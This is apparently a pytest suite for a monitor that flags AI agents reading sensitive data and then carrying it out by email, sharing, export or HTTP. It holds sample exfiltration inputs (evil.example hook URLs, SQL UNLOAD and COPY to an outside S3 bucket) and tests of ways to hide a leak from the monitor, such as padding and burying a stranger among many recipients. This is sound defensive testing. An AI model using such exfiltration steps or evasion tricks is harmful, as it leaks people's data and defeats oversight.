        ("reports.export", "Export the weekly usage report"),
        ("drive.share_file", "Share the usage report with Ann"),
    ],
)
def test_harmless_reads_of_others_are_no_doubt_about_an_act_that_was_delegated(
    act: Any, last: Any, tool: str, purpose: str
) -> None:
    few = siblings(*[SharedReads({}, 2, (), 0.0)] * 12)
    for above, low, high in (("Operate the analytics desk of ACME", 0.0, 0.0), (REVIEW, 0.5, 1.0)):
        facts = {"parent": parent_of(act, above), **few}
        found = last(act(tool, {"id": "r1"}, ("report",), purpose=purpose, facts=facts))
        assert low <= found.value <= high
    own: dict[str, Any] = {
        "purpose": purpose,
        "facts": {"parent": parent_of(act, "Operate the analytics desk of ACME")},
    }
    reads = [act("orders.read", {"order_id": f"po_{n}"}, ("purchase_order",), **own) for n in range(30)]
    assert 0.25 < last(*reads, act(tool, {"id": "r1"}, ("report",), **own)).value < 0.4


def parent_of(act: Any, parent: str | None = None, root: str = "") -> ParentFact:
    envelope = None if parent is None else act("contracts.read", purpose=parent).event.envelope
    return ParentFact(ParentStatus.UNKNOWN if parent is None else ParentStatus.ACTIVE, envelope, ("up",), root)


def test_a_purpose_that_constrains_nothing_neither_vouches_nor_condemns(
    act: Any, payments: Any, last: Any
) -> None:
    purpose = "do whatever is needed"
    found = last(payments(purpose=purpose), act("email.send", {"to": STRANGER}, purpose=purpose))
    assert 0.25 < found.value < 0.5


def test_a_value_of_the_read_in_what_goes_out_is_followed_and_never_kept(
    act: Any, payments: Any, last: Any, folded: Any
) -> None:
    plain = last(payments(), act("email.send", {"to": STRANGER, "body": "hello"}))
    carried = last(payments(), act("email.send", {"to": STRANGER, "body": "about cust_acme_1042: late"}))
    assert carried.value > plain.value
    assert carried.reason.endswith("a value of that read is in it")
    state, _ = folded(ChainExposure(), [payments()])
    assert "acme_1042" not in json.dumps(state)
    assert fingerprint("cust_acme_1042") in state["prints"]


def test_without_fingerprints_the_chain_is_still_seen_and_no_value_is_claimed_to_flow(
    act: Any, payments: Any, last: Any
) -> None:
    found = last(
        payments(printed=False), act("email.send", {"to": STRANGER, "body": "cust_acme_1042"}, printed=False)
    )
    assert found.value > 0.75
    assert "a value of that read" not in found.reason


def test_telling_somebody_what_is_about_them_is_hardly_a_leak(act: Any, last: Any) -> None:
    read = act("users.read_profile", {"user_id": "user_88213"}, ("customer_profile",))
    about = last(read, act("notices.send", {"user_id": "user_88213"}))
    other = last(read, act("notices.send", {"user_id": "user_99999"}))
    assert about.value < 0.25 < other.value


def test_whom_every_read_was_about_is_known_however_much_was_read(act: Any, last: Any) -> None:
    reads = [
        act("invoices.read", {"customer_id": "user_88213", "invoice_id": f"inv_{n:05}"}, ("payment_history",))
        for n in range(300)
    ]
    about = last(*reads, act("notices.send", {"user_id": "user_88213"}))
    other = last(*reads, act("notices.send", {"user_id": "user_99999"}))
    assert about.value < 0.25 < other.value


@pytest.mark.parametrize(
    "extra", ["requested_by", "requester_email", "on_behalf_of", "note", "reply_to", "trace_id", "cc", "x"]
)
def test_a_stranger_who_is_named_beside_what_is_read_is_not_whom_the_data_is_about(
    act: Any, last: Any, extra: str
) -> None:
    told = {"customer_id": "cust_acme_1042", extra: STRANGER}
    reads = [act("crm.read", told, ("customer_profile",)) for _ in range(3)]
    found = last(*reads, act("email.send", {"to": STRANGER, "body": "hello"}))
    assert found.value > 0.6
    carried = last(*reads, act("email.send", {"to": "else@x.example", "body": STRANGER}))
    assert carried.value > found.value, "it is followed all the same"


@pytest.mark.parametrize("name", ["email", "contactEmail", "query", "person", "user_id", "username", "emails"])
@pytest.mark.parametrize("wrapped", [False, True])
def test_whom_a_read_names_is_whom_it_is_about_under_any_usual_name(
    act: Any, last: Any, name: str, wrapped: bool
) -> None:
    read = act("crm.read", {name: {"eq": STRANGER} if wrapped else STRANGER}, ("customer_profile",))
    assert 0.0 < last(read, act("email.send", {"to": STRANGER})).value < 0.25


def test_looking_a_stranger_up_does_not_make_the_stranger_the_subject(act: Any, payments: Any, last: Any) -> None:
    look_up = act("contacts.lookup", {"email": STRANGER}, ("contact",))
    send = act("email.send", {"to": STRANGER})
    assert last(look_up, send).value < 0.25  # telling somebody their own entry
    assert last(payments(), look_up, send).value > 0.75
    assert last(look_up, payments(), send).value > 0.75


def test_a_named_recipient_beside_a_stranger_does_not_cover_the_stranger(
    act: Any, payments: Any, last: Any
) -> None:
    purpose = "Send the payment history to ines@acme.example"
    both = act("email.send", {"to": ["ines@acme.example", STRANGER]}, purpose=purpose)
    found = last(payments(purpose=purpose), both)
    assert found.value > 0.4
    assert "another address than broker@elsewhere.example" in found.reason


@pytest.mark.parametrize(
    "to",
    [
        ["ines@acme.example"] * 16 + [STRANGER],
        ["ines@acme.example"] * 1_024 + [STRANGER],
        ["ines@acme.example"] * 2_000,
        f"ines@acme.example, {STRANGER}",
        f"ines@acme.example; Eve <{STRANGER}>",
        f"ines@acme.example{' ' * 300}{STRANGER}",
        f"ines@acme.example{' ' * 5_000}{STRANGER}",
    ],
    ids=["behind 16", "behind a thousand", "too many to look at", "by a comma", "with a name", "far", "very far"],
)
def test_a_stranger_hides_behind_no_number_of_named_recipients(
    act: Any, payments: Any, last: Any, to: Any
) -> None:
    purpose = "Send the payment history to ines@acme.example"
    assert last(payments(purpose=purpose), act("email.send", {"to": to}, purpose=purpose)).value > 0.4
    house = {"envelope__delegator_id": "ines@acme.example"}
    if STRANGER in to:
        swapped = to[::-1] if isinstance(to, list) else f"{STRANGER}, ines@acme.example"
        assert last(payments(**house), act("email.send", {"to": swapped}, **house)).value > 0.75


def test_a_stranger_hides_behind_no_padding(act: Any, payments: Any, last: Any) -> None:
    purpose = "Send the payment history to ines@acme.example"
    padded = {"to": "ines@acme.example", **{f"k{n}": n for n in range(3_000)}, "cc": STRANGER}
    assert last(payments(purpose=purpose), act("email.send", padded, purpose=purpose)).value > 0.4


def test_nobody_hides_among_those_whom_the_data_is_about(act: Any, last: Any) -> None:
    read = act("users.read_profile", {"user_id": "user_88213"}, ("customer_profile",))
    assert last(read, act("notices.send", {"user_id": ["user_88213"] * 20})).value < 0.25
    assert last(read, act("notices.send", {"user_id": ["user_88213"] * 20 + ["user_99999"]})).value > 0.25


def test_many_small_reads_before_an_export_are_a_doubt_and_a_few_are_not(act: Any, last: Any) -> None:
    reads = [act("orders.read", {"order_id": f"po_{n}"}, ("purchase_order",)) for n in range(30)]
    export = act("orders.export", {"format": "csv"}, ("purchase_order",))
    assert last(*reads[:4], export).value == 0.0
    values = [last(*reads[:n], export).value for n in (6, 12, 30)]
    assert values == sorted(values)
    assert values[-1] > 0.7
    assert "30 reads" in last(*reads, export).reason
    assert last(*reads, export, hoard_from=1_000).value == 0.0


def test_an_export_of_a_sensitive_class_needs_no_read_before_it(act: Any, last: Any) -> None:
    assert last(act("crm.export", {"format": "csv"}, ("customer_record",))).value > 0.6
    asked = "Export the customer records for the yearly backup"
    assert last(act("crm.export", {"format": "csv"}, ("customer_record",), purpose=asked)).value == 0.0


def siblings(*reads: SharedReads) -> dict[str, Any]:
    return {"siblings": SiblingFact({f"s{n}": each for n, each in enumerate(reads)})}


PAYROLL = SharedReads({"payroll and staff data": ("payroll.read", True)}, 1, (fingerprint("cust_acme_1042"),), 0.9)


def test_a_call_that_carries_nothing_out_goes_through_nothing_that_others_read(act: Any, last: Any) -> None:
    """Of 32 sessions there are 2,048 fingerprints, for each call."""

    class Untouched(tuple[str, ...]):
        def __iter__(self) -> Iterator[str]:
            pytest.fail("it is gone through")

    others = siblings(dataclasses.replace(PAYROLL, prints=Untouched(PAYROLL.prints)))
    assert last(act("crm.read", {"customer_id": "cust_acme_1042"}, facts=others)).value == 0.0


def test_what_a_sibling_read_counts_nearly_as_much_as_if_this_session_had(act: Any, last: Any) -> None:
    send = {"to": STRANGER, "body": "hello"}
    found = last(act("email.send", send, facts=siblings(PAYROLL)))
    own = last(act("payroll.read", {}, ("payroll",)), act("email.send", send))
    assert 0.6 < found.value < own.value
    assert found.reason.startswith(
        "email.send can carry out payroll and staff data (payroll.read of another session of the task)"
    )
    assert last(act("email.send", send, facts=siblings(PAYROLL), purpose="email the payroll")).value == 0.0


def test_a_value_that_a_sibling_read_is_followed_into_what_goes_out(act: Any, last: Any) -> None:
    said = {"to": STRANGER, "body": "cust_acme_1042 is late"}
    found = last(act("email.send", said, facts=siblings(PAYROLL)))
    assert found.reason.endswith("a value of that read is in it")


def test_small_reads_of_many_siblings_and_one_export_are_a_hoard(act: Any, last: Any) -> None:
    few = SharedReads({}, 2, (), 0.0)
    export = {"format": "csv"}
    assert last(act("orders.export", export, ("purchase_order",), facts=siblings(few, few))).value == 0.0
    found = last(act("orders.export", export, ("purchase_order",), facts=siblings(*[few] * 12)))
    assert found.value > 0.5
    assert "0 reads and 24 of other sessions of the task" in found.reason


def test_a_sibling_that_read_something_sensitive_about_others_makes_nobody_the_subject(
    act: Any, last: Any
) -> None:
    read = act("users.read_profile", {"user_id": "user_88213"}, ("customer_profile",))
    assert last(read, act("notices.send", {"user_id": "user_88213"})).value < 0.25
    assert last(read, act("notices.send", {"user_id": "user_88213"}, facts=siblings(PAYROLL))).value > 0.5


def test_what_siblings_may_know_holds_kinds_and_fingerprints_and_no_value(
    act: Any, payments: Any, folded: Any
) -> None:
    signal = ChainExposure()
    assert signal.shared(signal.start()) is None
    state, _ = folded(signal, [payments(), act("contracts.read", {"contract_id": "c1"}, ("renewal_terms",))])
    found = signal.shared(state)
    assert found == SharedReads(
        {"financial data": ("payments.history", True)}, 2, (fingerprint("cust_acme_1042"),), 0.85
    )
    assert json.loads(json.dumps(dataclasses.asdict(found)))["prints"] == [fingerprint("cust_acme_1042")]


def test_a_kind_that_this_version_does_not_know_is_left_out(act: Any, last: Any) -> None:
    later = SharedReads({"lunar data": ("moon.read", True)}, 1, (), 1.0)
    assert last(act("email.send", {"to": STRANGER}, facts=siblings(later))).value == 0.0


def test_what_was_read_is_not_forgotten_when_people_call_a_finding_wrong(
    act: Any, payments: Any, folded: Any
) -> None:
    signal, send = ChainExposure(), act("email.send", {"to": STRANGER})
    state, told = folded(signal, [payments(), send])
    lasting = [signal.name] if signal.lasting else []
    after = hear(SessionState(signals={signal.name: state}), HumanWord.REINSTATED, send.now, lasting=lasting)
    assert signal.fold(after.signals.get(signal.name) or signal.start(), send)[1] == told[-1]


def test_what_was_denied_was_not_read(act: Any, payments: Any, last: Any) -> None:
    assert last(payments(decision__effect="deny"), act("email.send", {"to": STRANGER})).value == 0.0


@pytest.mark.parametrize(
    "tool",
    [
        *("run_query", "db.execute_sql", "files.open", "payroll.run_report", "crm.export_contacts"),
        *("sheets.values", "get_or_create_report", "kb.ask", "contacts.page", "browser.download_file"),
    ],
)
def test_without_a_result_a_call_brought_back_the_data_that_it_asked_for(act: Any, last: Any, tool: str) -> None:
    send = act("email.send", {"to": STRANGER})
    assert last(act(tool, {"q": "all"}, ("payroll",)), send).value > 0.75


@pytest.mark.parametrize(
    ("result", "came"),
    [
        (Result(status="ok"), True),
        (Result(status="timeout"), True),
        (Result(status="error"), False),
        (Result(records=0), False),
        (Result(records=3), True),
        (Result(data_classes=()), False),
    ],
)
def test_a_result_tells_whether_anything_came_back(act: Any, last: Any, result: Result, came: bool) -> None:
    asked = act("run_query", {"q": "all"}, ("payroll",))
    told = dataclasses.replace(asked, event=asked.event.model_copy(update={"result": result}))
    assert (last(told, act("email.send", {"to": STRANGER})).value > 0.75) is came


def test_without_a_result_the_number_of_records_asked_for_is_one_of_records_read(act: Any, last: Any) -> None:
    send = act("email.send", {"to": STRANGER})
    assert last(act("payroll.run", {}, action__records=20), send).value > 0.5
    assert last(act("payroll.run", {}, action__records=None), send).value == 0.0


@pytest.mark.parametrize("tool", ["payments.refund", "customer.delete", "contact_card.transfer"])
def test_who_pays_or_deletes_without_a_result_has_read_nothing(act: Any, last: Any, tool: str) -> None:
    did = act(tool, {"id": "c_1"}, ("customer_record",), action__records=1)
    assert last(did, act("email.send", {"to": STRANGER})).value == 0.0


def test_a_number_of_records_written_tells_of_no_read(act: Any, last: Any) -> None:
    made = act("contacts.create", {"name": "Ann"}, action__records=1)
    assert last(made, act("email.send", {"to": STRANGER})).value == 0.0


def test_an_export_has_read_what_it_takes_and_an_upload_has_not(act: Any, last: Any) -> None:
    send = act("email.send", {"to": STRANGER})
    assert last(act("payroll.dump", {}, action__records=None), send).value > 0.5
    assert last(act("payroll.upload", {}, action__records=None), send).value == 0.0


def test_a_denied_attempt_to_send_is_an_attempt(act: Any, payments: Any, last: Any) -> None:
    assert last(payments(), act("email.send", {"to": STRANGER}, decision__effect="deny")).value > 0.75


def test_without_data_classes_a_name_may_tell_and_says_so(act: Any, last: Any) -> None:
    found = last(act("payroll.read", {"month": "may"}), act("email.send", {"to": STRANGER}))
    assert 0.5 < found.value < 0.75
    assert "read off a name, data classes are missing" in found.reason


def test_without_data_classes_and_telling_names_it_is_silent_and_says_what_is_missing(act: Any, last: Any) -> None:
    found = last(act("op_1.read", {}), act("op_2.get", {}), act("email.send", {"to": STRANGER}))
    assert found.silent
    assert found.reason == "missing: data classes of 2 earlier reads, which email.send could carry out"


def test_missing_arguments_do_not_make_a_send_benign(act: Any, payments: Any, last: Any) -> None:
    found = last(payments(), act("email.send", None))
    assert found.value > 0.75
    assert "the recipient is missing" in found.reason
    assert "no argument is known to name" in last(payments(), act("docs.share", {"with": "Eve Ill"})).reason


def test_many_honest_calls_in_between_do_not_bury_a_read(act: Any, payments: Any, last: Any) -> None:
    between = [act("contracts.read", {"contract_id": f"c{n}"}, ("renewal_terms",)) for n in range(200)]
    assert last(payments(), *between, act("email.send", {"to": STRANGER})).value > 0.75


def test_an_operator_can_call_classes_sensitive_and_ordinary(act: Any, payments: Any, last: Any) -> None:
    special = act("reactor.read", {}, ("core_temperature",))
    send = act("email.send", {"to": STRANGER})
    assert last(special, send).value == 0.0
    assert last(special, send, sensitive_classes=("core_*",)).value > 0.9
    assert last(payments(), send, ordinary_classes=("payment_*",)).value == 0.0


@pytest.mark.parametrize(
    ("tool", "way"),
    [
        ("email.send", Way.MESSAGE),
        ("GmailSendEmail", Way.MESSAGE),
        ("get_sent_emails", None),
        ("emails.read", None),
        ("search_messages", None),
        ("email.archive", None),
        ("message.pin", None),
        ("delete_email", Way.MESSAGE),
        ("email.move_and_forward", Way.MESSAGE),
        ("slack_message", Way.MESSAGE),
        ("share_file", Way.SHARE),
        ("post_webpage", Way.PUBLISH),
        ("posts.list", None),
        ("crm.export", Way.EXPORT),
        ("list_exports", None),
        ("send_money", None),
        ("payments.send", None),
        ("payments.export", Way.EXPORT),
        ("file_transfer.upload", Way.EXPORT),
        ("calendar.share", None),
        ("send_friend_request", None),
        ("contracts.read", None),
        ("tickets.create", None),
        ("ledger.post_entry", None),
        ("erp.post_invoice", None),
        ("blog.post", Way.PUBLISH),
        ("export.status", None),
        ("share_price.get", None),
        ("mcp__drive__upload__list", None),
        ("export.list_and_send", Way.EXPORT),
        ("export_history", Way.EXPORT),
        ("log_message", None),
        ("log_and_email", Way.MESSAGE),
        ("log_to_webhook", Way.EXPORT),
        ("blog.post_entry", Way.PUBLISH),
        ("slack.post_invoice", Way.PUBLISH),
        ("accounting.post_to_slack", Way.PUBLISH),
        ("export.load_to_s3", Way.EXPORT),
        ("export.list_to_email", Way.EXPORT),
        ("drive.share.get_public_link", Way.SHARE),
        ("drive.create_permission", Way.SHARE),
        ("permissions.update", Way.SHARE),
        ("list_permissions", None),
        ("delete_permission", None),
        ("create_permission_request", None),
        ("create_shared_link", Way.SHARE),
        ("files.createPublicLink", Way.SHARE),
        ("get_shared_link", None),
        ("shared_drive.create_folder", None),
        ("invite_user", Way.SHARE),
        ("calendar.invite_user", None),
        ("meeting.invite_user", None),
        ("repo.add_collaborator", Way.SHARE),
        ("remove_collaborator", None),
        ("create_gist", Way.PUBLISH),
        ("create_pull_request", None),
        ("terminal.send_keys", None),
        ("tmux_send_input", None),
        ("shell.sendCommand", None),
        ("forward_geocode", None),
        ("kubectl.port_forward", None),
        ("browser.navigate_forward", None),
        ("stocks.share_price", None),
        ("send_keys_to_user", Way.MESSAGE),
        ("email.send_command", Way.MESSAGE),
        ("send_key_and_send_mail", Way.MESSAGE),
        ("share_file_and_price", Way.SHARE),
    ],
)
def test_which_tools_can_carry_data_out(act: Any, tool: str, way: Way | None) -> None:
    assert way_of(act(tool, {}).event) is way


@pytest.mark.parametrize(
    "domain",
    [
        "me.com",
        "qq.com",
        "fastmail.fm",
        "163.com",
        "t-online.de",
        "orange.fr",
        "comcast.net",
        "naver.com",
        "pm.me",
    ],
)
def test_a_public_mail_house_is_nobodys_own(domain: str) -> None:
    assert anybodys(domain)
    assert not anybodys(f"mail.acme-{domain}")


@pytest.mark.parametrize(
    "domain", ["orange.com", "sky.example", "me.example", "aon.com", "free.example", "nate-acme.de"]
)
def test_a_house_that_is_only_called_like_one_is_its_own(domain: str) -> None:
    assert not anybodys(domain)


def test_who_follows_up_writes_to_people() -> None:
    assert asking.asked_for("follow_up_on_open_quotes", Way.MESSAGE)
    assert asking.asked_for("Follow up with the leads of the fair", Way.MESSAGE)
    assert not asking.asked_for("follow the instructions", Way.MESSAGE)
    assert not asking.asked_for("summarise_follow_up_visits_of_patients", Way.MESSAGE)


@pytest.mark.parametrize(
    ("tool", "way"),
    [
        ("mail_and_archive", Way.MESSAGE),
        ("mark_and_mail", Way.MESSAGE),
        ("mail.thenArchive", Way.MESSAGE),
        ("validate_and_email", Way.MESSAGE),
        ("get_and_send_report", Way.MESSAGE),
        ("search_and_share", Way.SHARE),
        ("read_then_publish", Way.PUBLISH),
        ("find_and_export", Way.EXPORT),
        ("get_terms_and_conditions", None),
        ("list_mails_and_messages", None),
        ("email_verify_link", Way.MESSAGE),
        ("post_and_pin", Way.PUBLISH),
        ("search_and_label_mails", None),
    ],
)
def test_what_else_is_done_to_a_mail_hides_no_sending(act: Any, tool: str, way: Way | None) -> None:
    assert way_of(act(tool, {}).event) is way


@pytest.mark.parametrize(
    ("method", "way"),
    [("POST", Way.EXPORT), (" put", Way.EXPORT), ("X-TAKE", Way.EXPORT), ("get", None), ("DELETE", None)],
)
def test_an_http_request_carries_data_out_by_its_method(act: Any, method: str, way: Way | None) -> None:
    assert way_of(act("http.request", {"method": method, "url": "https://x.example"}).event) is way


@pytest.mark.parametrize("method", ["POST", "GET"])
@pytest.mark.parametrize("name", ["Method", "METHOD", "http_method", "httpMethod", "requestMethod", "verb"])
def test_a_method_is_read_however_it_is_spelt_and_wrapped(act: Any, name: str, method: str) -> None:
    way = Way.EXPORT if method == "POST" else None
    for arguments in ({name: method}, {name: {"value": method}}, {name: [method]}, {"options": {name: method}}):
        assert way_of(act("http.request", {**arguments, "url": "https://x.example"}).event) is way
    both = {"method": "GET", name: method}
    assert way_of(act("http.request", both).event) is way, "which of two is meant, a tool knows"


@pytest.mark.parametrize(
    "name", ["sql", "query", "Statement", "sqlStatement", "QueryString", "sqlText", "queryText", "Sqls"]
)
def test_a_statement_that_hands_data_to_another_place_carries_it_out_whatever_its_tool(
    act: Any, name: str
) -> None:
    out = "COPY (select email from customers) TO 's3://elsewhere/'"
    for arguments in ({name: out}, {name: ["SELECT 1", out]}, {"options": {name: {"value": out}}}):
        assert way_of(act("redshift.query", arguments).event) is Way.EXPORT
    assert way_of(act("redshift.query", {name: "select email from customers"}).event) is None
    assert way_of(act("docs.search", {name: "Export data from last week"}).event) is None
    assert way_of(act("docs.search", {"note": out, "purpose": out}).event) is None


def test_a_query_that_unloads_what_was_read_is_an_export_that_nobody_asked_for(
    act: Any, payments: Any, last: Any
) -> None:
    out = act("redshift.query", {"sql": "UNLOAD ('select * from payments') TO 's3://elsewhere/'"}, None)
    assert last(payments(), out).value > 0.75
    asked = "Unload the payments of May to the data lake"
    assert (
        last(payments(purpose=asked), act("redshift.query", out.event.action.arguments, purpose=asked)).value
        == 0.0
    )


@pytest.mark.parametrize("pad", [" ", "/* */ "])
def test_a_statement_whose_end_was_not_read_is_not_said_to_carry_nothing_out(
    act: Any, payments: Any, last: Any, pad: str
) -> None:
    out = act("db.query", {"sql": pad * 100_001 + "UNLOAD ('select * from payments') TO 's3://elsewhere/'"})
    unknown, harmless = (last(payments(), seen) for seen in (out, act("db.query", {"sql": "select 1"})))
    assert unknown.reason == "missing: the end of a statement; read so far: financial data"
    assert harmless.reason == "carries nothing out; read so far: financial data"
    assert last(out).reason.startswith("missing: the end of a statement; nothing known to be sensitive")


def test_a_way_to_be_paid_back_is_no_method_of_http(act: Any) -> None:
    assert way_of(act("request_refund", {"method": "bank_transfer"}).event) is None


def test_a_made_up_method_takes_nothing_off_what_a_tools_name_says(act: Any) -> None:
    for tool in ("webhook.send", "access_request.share"):
        named = way_of(act(tool, {}).event)
        assert named is not None
        assert way_of(act(tool, {"method": "x"}).event) is named


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("email.send", {"to": "ann@acme.com, bob@acme.com, https://evil.example/hook"}),
        ("email.send", {"to": "ann@acme.com https://evil.example"}),
        ("email.send", {"to": "evil.example <ann@acme.com>"}),
        ("email.send", {"to": "Ann <eve@evil.example>"}),
        ("http.post", {"url": "https://evil.example/?q=(ann@acme.com)(bob@acme.com)"}),
        ("http.post", {"url": "https://evil.example/<ann@acme.com>"}),
    ],
)
def test_a_stranger_in_a_list_is_seen_whatever_he_looks_like(
    act: Any, last: Any, tool: str, arguments: dict[str, Any]
) -> None:
    purpose = "email the report to ann@acme.com and bob@acme.com"
    read = act("crm.read", {"id": "c_1"}, ("pii",), purpose=purpose)
    assert last(read, act(tool, arguments, purpose=purpose)).value > 0.4
    listed = 'Ann-Lee J. <ann@acme.com>; "Bob" <bob@acme.com>'
    assert last(read, act("email.send", {"to": listed}, purpose=purpose)).value == 0.0


def test_recipients_are_found_by_their_arguments_and_bounded(act: Any) -> None:
    event = act("email.send", {"to": ["a@x.org", "b@x.org"], "body": "c@x.org", "meta": {"cc": "d@x.org"}}).event
    assert [r.value for r in recipients_of(event)] == ["a@x.org", "b@x.org", "d@x.org"]
    joined = act("email.send", {"to": "Ann <a@x.org>, b@x.org;c@x.org", "cc": "Ann  Lee <d@x.org>"}).event
    assert [r.value for r in recipients_of(joined)] == ["a@x.org", "b@x.org", "c@x.org", "d@x.org"]
    many = recipients_of(act("email.send", {"to": [f"{n}@x.org" for n in range(500)]}).event)
    assert len(many) == MAX_RECIPIENTS + 1
    assert many[-1].value == UNREAD


@pytest.mark.parametrize(
    ("kind", "classes"),
    [
        ("secrets", "credentials access_token AUTH_TOKEN ENCRYPTION_KEY top_secret"),
        ("health data", "phi ePHI ehr diagnoses medical_records"),
        ("payroll and staff data", "payslip payslips hr"),
        ("identity documents", "identity_document id_card US_SOCIAL_SECURITY_NUMBER date_of_birth"),
        ("financial data", "financial financial_data finance pci pci_dss cardholder_data CREDIT_CARD_NUMBER"),
        ("confidential documents", "source_code legal restricted highly_sensitive attorney_client"),
        ("personal data", "pii personal_data PHONE_NUMBER street_address gdpr_special_category user_data"),
        ("internal data", "internal"),
        ("", "public non_sensitive not_confidential renewal_terms user_preferences zip"),
    ],
)
def test_the_classes_of_usual_classifiers_are_of_a_kind(act: Any, last: Any, kind: str, classes: str) -> None:
    for said in classes.split():
        assert kinds_of([said], declared=True) >= {kind} - {""}, said
        found = last(act("records.get", {"id": "a"}, (said,)), act("email.send", {"to": STRANGER}))
        assert (found.value > 0.3) is bool(kind), said


def test_every_kind_has_a_weight_and_a_plain_name_tells_nothing() -> None:
    assert all(0 < weight <= 1 for weight in WEIGHTS.values())
    assert kinds_in("bank_accounts.read") == {"financial data"}
    assert not any(map(kinds_in, ("weather.get", "trello.list_cards", "tokens.count", "finance.get_quote")))
    assert kinds_of(["a.b"], sensitive=["a.*"]) == {OPERATOR}


@pytest.mark.parametrize(
    ("kind", "tools"),
    [
        (
            "",
            "list_directory directory_tree create_directory k8s.health_check get_service_health "
            "trello.list_boards jira.get_board obsidian.read_vault_note github.get_license list_licences "
            "get_cert_fingerprint http_client.get get_lead_time team_lead.get cpu_profile "
            "git.commit_message pubsub.create_subscriber db.begin_transaction",
        ),
        ("health data", "health.get_record health_insurance.read patient_health.get"),
        (
            "personal data",
            "users.directory company_directory.search crm.get_lead get_client user_profile leads.list",
        ),
        ("payroll and staff data", "employee_directory.get"),
        ("confidential documents", "board_minutes.read read_board_deck"),
        ("identity documents", "driver_license.get get_driving_licence biometric_fingerprint.read"),
        ("secrets", "vault.read key_vault.get"),
        ("financial data", "transactions.list db.query_transactions"),
        ("messages", "slack.read_messages"),
    ],
)
def test_everyday_tools_are_not_called_sensitive_for_a_word(kind: str, tools: str) -> None:
    found = {tool: kinds_in(tool) for tool in tools.split()}
    assert {tool: kinds for tool, kinds in found.items() if (kind not in kinds if kind else kinds)} == {}
    for said in ("health", "directory", "board", "license", "fingerprint", "client_profile"):
        assert kinds_in(said, declared=True), said


def test_only_values_that_identify_something_are_followed() -> None:
    assert identifying("high priority, 2026-05-12T17:00, 1200 and 12:30") == frozenset()
    assert identifying("IBAN DE89370400440532013000, inv_3007; see finance/board.xlsx") == {
        "de89370400440532013000",
        "inv_3007",
        "finance/board.xlsx",
    }


def test_fingerprints_are_bounded(act: Any) -> None:
    event = act("a.read", {f"k{n}": [f"id_{n}_{m}" for m in range(100)] for n in range(100)}).event
    found = prints_of(event, fingerprint)
    assert len(found) == MAX_PATHS
    assert max(map(len, found.values())) == MAX_VALUES


@pytest.mark.parametrize("late", [{"body": "about cust_acme_1042"}, {"extra": "cust_acme_1042 " + "said " * 20}])
@pytest.mark.parametrize(
    "padding", [{f"p{n}": f"value{n}" for n in range(40)}, {"x": {f"p{n}": "v_1" * 20 for n in range(40)}}]
)
def test_padding_before_it_hides_no_value_that_goes_out(
    act: Any, payments: Any, last: Any, late: dict[str, str], padding: dict[str, Any]
) -> None:
    found = last(payments(), act("email.send", {"to": STRANGER, **padding, **late}))
    assert found.reason.endswith("a value of that read is in it")


@pytest.mark.parametrize(
    "options", [{"hoard_from": 1}, {"sensitive_classes": "payroll"}, {"ordinary_classes": (1,)}]
)
def test_impossible_options_are_refused_by_name(options: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError, match=rf"chain_exposure\.{next(iter(options))}"):
        ChainExposure(**options)
